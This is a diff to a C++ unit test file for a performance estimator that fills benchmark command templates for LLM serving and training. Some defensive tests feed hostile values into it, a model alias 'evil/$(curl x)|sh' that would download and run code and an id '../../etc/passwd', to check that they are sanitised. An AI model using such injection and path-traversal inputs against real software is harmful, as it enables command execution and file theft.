@@ -20,7 +20,7 @@ std::optional<std::string> filled_with(const char* command, const std::map<std::
 }
 
 // One tool that says what it was given.
-Catalog with_tool(const char* command, Streams streams = Streams::any) {
+Catalog with_tool(const char* command, Streams streams = Streams::any, Copies copies = Copies::all) {
   Catalog c = test::catalog();
   ServingEngine engine;
   engine.id = "vllm";
@@ -28,9 +28,10 @@ Catalog with_tool(const char* command, Streams streams = Streams::any) {
   c.models[0].aliases = {"8b", "meta-llama/Llama-3.1-8B"};
   c.benchmarks = {{.id = "tool",
                    .tool = "Tool",
-                   .figures = {"/speed/tpot_ms", "/speed/ttft_ms", "/speed/step_s"},
+                   .figures = {"/speed/tpot_ms", "/speed/ttft_ms", "/speed/step_s", "/speed/tokens_per_s"},
                    .software = {"vllm", "pytorch"},
                    .streams = streams,
+                   .copies = copies,
                    .command = command}};
   return c;
 }
@@ -55,6 +56,13 @@ TEST(Reproduce, NamesAreFilledInAndPartsWithoutAValueLeftOut) {
   EXPECT_EQ(filled_with("", {}), "");
 }
 
+TEST(Reproduce, ALineThatAsksForAValueIsLeftOutWithoutIt) {
+  const char* lines = "{one?}# A server\n{one?}serve\n{many?}# On every node\n{many?}serve [--nodes {many}]\nbench";
+  EXPECT_EQ(filled_with(lines, {{"one", "yes"}}), "# A server\nserve\nbench");
+  EXPECT_EQ(filled_with(lines, {{"many", "2"}}), "# On every node\nserve --nodes 2\nbench");
+  EXPECT_EQ(filled_with("{full?}train\n{lora?}tune {lora}", {{"full", "yes"}}), "train");
+}
+
 TEST(Reproduce, ACommandThatCannotBeFilledInIsNotGiven) {
   EXPECT_EQ(filled_with("run {a}", {}), std::nullopt);
   EXPECT_EQ(filled_with("run{?plain}", {}), std::nullopt);
@@ -62,7 +70,7 @@ TEST(Reproduce, ACommandThatCannotBeFilledInIsNotGiven) {
 
 TEST(Reproduce, OneEntryForEachFigureThatIsThere) {
   const Estimate e = *answer(serving(), with_tool("run"));
-  ASSERT_EQ(e.reproduce.size(), 2u);  // no step of training
+  ASSERT_EQ(e.reproduce.size(), 3u);  // no step of training
   EXPECT_EQ(e.reproduce[0].figure, "/speed/tpot_ms");
   EXPECT_EQ(e.reproduce[1].figure, "/speed/ttft_ms");
   EXPECT_EQ(e.reproduce[0].tool, "Tool");
@@ -83,7 +91,7 @@ TEST(Reproduce, SaysWhatTheScenarioSays) {
 }
 
 TEST(Reproduce, ACardAloneAndTensorParallelAreAskedFor) {
-  const Catalog c = with_tool("run[ -sm {split_mode}]");
+  const Catalog c = with_tool("run[ -sm tensor{?tensor}][ -sm none{?one_card}]", Streams::any, Copies::one);
   Scenario s = serving();
   s.hardware.count = 2;
   const auto command = [&](int tensor, int pipeline, int data) {
@@ -125,6 +133,7 @@ TEST(Reproduce, WeightsInHostMemoryAreToldInWholeGib) {
   cpu.rates[Arithmetic::fp32] = teraflop_per_second(1);
   s.hardware.accelerator = "rtx-4090";
   s.overrides.accelerators = {cpu};
+  s.serve.concurrency = 1;
   const Catalog c = with_tool("run --offload {host_gib}");
   const double gb = *answer(s, c)->memory.host_gb;
   EXPECT_GT(gb, 40);  // of 71, on a card of 24
@@ -177,9 +186,144 @@ TEST(Reproduce, NamesThatCameWithALinkMeanNothingToAShell) {
   own.aliases = {"evil/$(curl x)|sh"};
   s.model.id = own.id;
   s.overrides.models = {own};
-  const std::string command = command_of(s, with_tool("run {model} {gguf} {plain}"));
+  const std::string command = command_of(s, with_tool("run {model} {gguf} {hub_id}"));
   EXPECT_EQ(command.substr(0, 4), "run ");
+  EXPECT_EQ(command.find("evil"), std::string::npos) << command;
   EXPECT_EQ(command.find_first_of("'\"`$;|&<>()#~*?\n\\"), std::string::npos) << command;
+}
+
+// An own model can call itself as any repository: what it is called is no place to fetch from. Nor is it one of the
+// catalog's because it has the id of one.
+TEST(Reproduce, AModelThatCameWithALinkIsAFileOfOnesOwn) {
+  Scenario s = serving();
+  ModelRecord own = test::catalog().models[0];
+  own.aliases = {"stranger/malware", "timm/malware"};
+  s.overrides.models = {own};
+  EXPECT_EQ(command_of(s, with_tool("run {model} {hub_id} {model_fp8}")),
+            "run path/to/llama-3.1-8b path/to/llama-3.1-8b path/to/llama-3.1-8b");
+  EXPECT_EQ(command_of(s, with_tool("run {timm}")), "");
+  EXPECT_EQ(command_of(s, with_tool("measure {plain}")), "");  // a name that tools/measure looks up in the catalog
+  own.id = "../../etc/passwd";
+  s.model.id = own.id;
+  s.overrides.models = {own};
+  EXPECT_EQ(command_of(s, with_tool("run {model}")), "run path/to/..-..-etc-passwd");
+}
+
+TEST(Reproduce, ADraftModelThatCameWithALinkIsAFileToo) {
+  Scenario s = serving();
+  s.serve.speculative.draft = "llama-3.1-8b";
+  EXPECT_EQ(command_of(s, with_tool("run {draft_model}")), "run meta-llama/Llama-3.1-8B");
+  ModelRecord own = test::catalog().models[0];
+  own.id = "mine";
+  own.aliases = {"stranger/malware"};
+  s.overrides.models = {own};
+  s.serve.speculative.draft = "mine";
+  EXPECT_EQ(command_of(s, with_tool("run {draft_model}")), "run path/to/mine");
+}
+
+// 8 GPUs of two nodes as four replicas of two: 32 requests, 8 for each.
+TEST(Reproduce, WhatRunsOfTheAcceleratorsIsWhatIsPredicted) {
+  Scenario s = serving();
+  s.hardware.count = 8;
+  s.hardware.per_node = 4;
+  s.parallel.tensor = 2;
+  s.parallel.pipeline = 1;
+  s.serve.concurrency = 32;
+  const char* line = "{gpus} GPUs[ of {nodes} nodes] {data} ranks {streams} requests {prompts}";
+  const auto all = *answer(s, with_tool(line));
+  EXPECT_EQ(all.reproduce[0].command, "8 GPUs of 2 nodes 4 ranks 32 requests 160");
+  EXPECT_EQ(all.reproduce[0].note, "");
+  const struct {
+    Copies copies;
+    const char* command;
+    double share;
+  } cases[] = {{Copies::one, "2 GPUs one rank 8 requests 40", 0.25},
+               {Copies::node, "4 GPUs 2 ranks 16 requests 80", 0.5},
+               {Copies::dense, "8 GPUs of 2 nodes 4 ranks 32 requests 160", 1}};
+  for (const auto& c : cases) {
+    const auto e =
+        *answer(s, with_tool("{gpus} GPUs[ of {nodes} nodes][ {data} ranks][ one rank{?one_rank}] {streams} requests "
+                             "{prompts}",
+                             Streams::any, c.copies));
+    ASSERT_EQ(e.reproduce.size(), 3u);
+    EXPECT_EQ(e.reproduce[0].command, c.command);
+    EXPECT_DOUBLE_EQ(*e.reproduce[0].predicted, *e.speed.tpot_ms);
+    EXPECT_DOUBLE_EQ(*e.reproduce[2].predicted, *e.speed.tokens_per_s * c.share);
+    EXPECT_EQ(e.reproduce[0].note.empty(), c.share == 1) << e.reproduce[0].note;
+  }
+  EXPECT_EQ((*answer(s, with_tool("run", Streams::any, Copies::one))).reproduce[0].note,
+            "On 2 of the 8 accelerators, with their share of the load.");
+}
+
+// One request for two replicas leaves one idle: the other gives all there is.
+TEST(Reproduce, AReplicaWithAllRequestsGivesAllThroughput) {
+  Scenario s = serving();
+  s.hardware.count = 2;
+  s.parallel.tensor = s.parallel.pipeline = 1;
+  s.serve.concurrency = 1;
+  const auto e = *answer(s, with_tool("{streams}", Streams::any, Copies::one));
+  EXPECT_EQ(e.reproduce[0].command, "1");
+  EXPECT_DOUBLE_EQ(*e.reproduce[2].predicted, *e.speed.tokens_per_s);
+}
+
+TEST(Reproduce, ARateIsDividedAmongReplicas) {
+  Scenario s = serving();
+  s.hardware.count = 4;
+  s.parallel.tensor = s.parallel.pipeline = 1;
+  s.serve.requests_per_minute = 120;
+  const auto e = *answer(s, with_tool("{request_rate}", Streams::any, Copies::one));
+  EXPECT_EQ(e.reproduce[0].command, "0.5");  // of 2 a second
+  EXPECT_DOUBLE_EQ(*e.reproduce[2].predicted, *e.speed.tokens_per_s / 4);
+}
+
+TEST(Reproduce, WhatDoesNotFitIsNotToBeRun) {
+  Scenario s = serving();
+  s.model.id = "llama-3.1-70b";
+  s.hardware.accelerator = "rtx-4090";
+  const auto e = *answer(s, with_tool("run"));
+  ASSERT_EQ(e.memory.fit, Fit::no);
+  EXPECT_TRUE(e.reproduce.empty());
+}
+
+TEST(Reproduce, WithoutACommandTheReasonIsSaid) {
+  Catalog c = with_tool("run {nothing}");
+  Benchmark why;
+  why.id = "why";
+  why.remark = "Drafts of {draft_tokens}.";
+  c.benchmarks.push_back(why);
+  why.remark = "Nobody measures it.";
+  c.benchmarks.push_back(why);
+  c.benchmarks.push_back(why);
+  const auto e = *answer(serving(), c);
+  ASSERT_EQ(e.reproduce.size(), 1u);  // the first that holds
+  EXPECT_EQ(e.reproduce[0].note, "Nobody measures it.");
+  EXPECT_EQ(e.reproduce[0].figure + e.reproduce[0].tool + e.reproduce[0].command, "");
+  EXPECT_EQ(e.reproduce[0].predicted, std::nullopt);
+}
+
+// A trainer without stages: the answer's layout is estimated again as data parallel, and that is what is predicted.
+TEST(Reproduce, TrainingInALayoutThatNoToolHasIsEstimatedInOneThatItHas) {
+  Scenario s;
+  s.workload = Workload::finetune;
+  s.model.id = "llama-3.1-8b";
+  s.hardware.count = 2;
+  s.parallel.tensor = 1;
+  s.parallel.pipeline = 2;
+  s.train.method = Method::lora;
+  s.train.global_batch = 16;
+  const Catalog c = with_tool("train on {gpus}{?only_data} {micro_batch}x{accumulation}");
+  const auto e = *answer(s, c);
+  ASSERT_EQ(e.reproduce.size(), 2u);
+  s.parallel.pipeline = 1;
+  s.parallel.data = 2;
+  s.parallel.sharding = Sharding::none;
+  const auto other = *answer(s, c);
+  ASSERT_EQ(other.memory.fit, Fit::fits);
+  EXPECT_NE(*e.speed.step_s, *other.speed.step_s);
+  EXPECT_EQ(e.reproduce[0].command, other.reproduce[0].command);
+  EXPECT_DOUBLE_EQ(*e.reproduce[0].predicted, *other.speed.step_s);
+  EXPECT_EQ(e.reproduce[0].note.rfind("No tool that we know runs the layout of the answer", 0), 0u);
+  EXPECT_EQ(other.reproduce[0].note, "");
 }
 
 TEST(Reproduce, AModelThatIsOnlyASizeHasNoShapes) {
